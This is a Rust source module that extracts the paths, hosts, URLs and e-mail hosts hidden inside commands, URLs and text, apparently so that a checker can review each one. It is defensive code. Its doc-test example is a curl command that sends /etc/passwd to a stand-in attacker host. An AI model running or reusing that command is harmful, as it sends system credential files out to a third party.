//! Values inside of values: what else a value has to be tried as.

use crate::{Context, Kind, command, host, normalise, url};

/// Every value that a value holds, in its one spelling, itself not among them: words and redirections of a command as paths,
/// URLs and hosts; a `file:` URL as a path; the host of a URL or an e-mail address. Plain text is tried as each kind. What
/// cannot be normalised is not of that kind.
///
/// ```
/// use rev_text::{Context, Kind, inside};
/// let found = inside(Kind::Command, "curl -d @/etc/passwd https://ann@Evil.example/x", &Context::default());
/// assert!(found.contains(&(Kind::Path, "/etc/passwd".to_owned())));
/// assert!(found.contains(&(Kind::Host, "evil.example".to_owned())));
/// ```
pub fn inside(kind: Kind, value: &str, context: &Context<'_>) -> Vec<(Kind, String)> {
    let mut found = Found {
        list: Vec::new(),
        context: Context {
            tried: true,
            ..*context
        },
    };
    match kind {
        Kind::Text => found.text(value),
        Kind::Command => found.command(value),
        // What it holds is told by its one spelling: `https:\\evil.example` has a host, too.
        Kind::Url => {
            if let Ok(url) = url::normalise(value) {
                found.of_url(&url);
            }
        }
        Kind::Email => {
            if let Ok(email) = host::normalise_email(value) {
                found.host(host::of_email(&email));
            }
        }
        Kind::Path | Kind::Host => {}
    }
    found.list
}

struct Found<'a> {
    list: Vec<(Kind, String)>,
    context: Context<'a>,
}

impl Found<'_> {
    fn add(&mut self, kind: Kind, value: &str) -> bool {
        match normalise(kind, value, &self.context) {
            Ok(normal) => {
                self.list.push((kind, normal.into_owned()));
                true
            }
            Err(_) => false,
        }
    }

    fn host(&mut self, host: Option<&str>) {
        if let Some(host) = host.filter(|host| !host.is_empty()) {
            self.add(Kind::Host, host);
        }
    }

    fn text(&mut self, value: &str) {
        self.word(value);
        if self.add(Kind::Email, value) {
            self.host(host::of_email(value));
        }
        // A single word runs nothing that its other readings do not tell, but it may be a program.
        self.add(Kind::Command, value);
        self.command(value);
    }

    fn command(&mut self, value: &str) {
        let script = command::read(value);
        let words = script.commands.iter().flat_map(|simple| &simple.words);
        for word in words.chain(&script.others) {
            self.word(&word.text);
        }
        // A word of a command that another runs is seen with both.
        self.list.sort();
        self.list.dedup();
    }

    /// A word, and what is left of it behind the name of an option.
    fn word(&mut self, word: &str) {
        self.plain(word);
        if let Some((_, value)) = word.split_once('=') {
            self.plain(value);
        }
        if let Some(file) = word.strip_prefix('@') {
            self.plain(file);
        }
        let flag = word.strip_prefix('-').filter(|rest| !rest.starts_with('-'));
        if let Some(at) = flag.and_then(|rest| rest.find(['/', '~', '.'])) {
            self.plain(word.get(at + 1..).unwrap_or_default());
        }
    }

    fn plain(&mut self, word: &str) {
        self.add(Kind::Path, word);
        self.add(Kind::Host, word);
        match url::normalise(word) {
            Ok(url) if url::split(&url).host.is_empty() && !url.starts_with("file:") => {
                self.of_url(&url);
                self.list.push((Kind::Url, url));
                self.without_scheme(word);
            }
            Ok(url) => {
                self.of_url(&url);
                self.list.push((Kind::Url, url));
            }
            Err(_) => self.without_scheme(word),
        }
    }

    /// `evil.example/x`, `evil.example:8080` and `ann@evil.example:file`, which programs take for addresses.
    fn without_scheme(&mut self, word: &str) {
        let start = word.split(['/', '?', '#']).next().unwrap_or_default();
        let machine = start.rsplit('@').next().unwrap_or_default();
        let machine = machine.split(':').next().unwrap_or_default();
        let dotted = machine.contains('.') && !machine.starts_with('.');
        if word.len() == machine.len() && !dotted
            || !(dotted || machine == "localhost" || start.contains('@'))
        {
            return;
        }
        self.host(Some(machine));
        if dotted
            && let Ok(url) = url::normalise(&format!("http://{}", word.trim_start_matches('/')))
        {
            self.list.push((Kind::Url, url));
        }
    }

    fn of_url(&mut self, url: &str) {
        let parts = url::split(url);
        match parts.scheme {
            Some("file") => {
                self.add(Kind::Path, url);
            }
            Some("mailto") if self.add(Kind::Email, parts.path) => {
                self.host(host::of_email(parts.path));
            }
            _ => {}
        }
        self.host(Some(parts.host));
    }
}
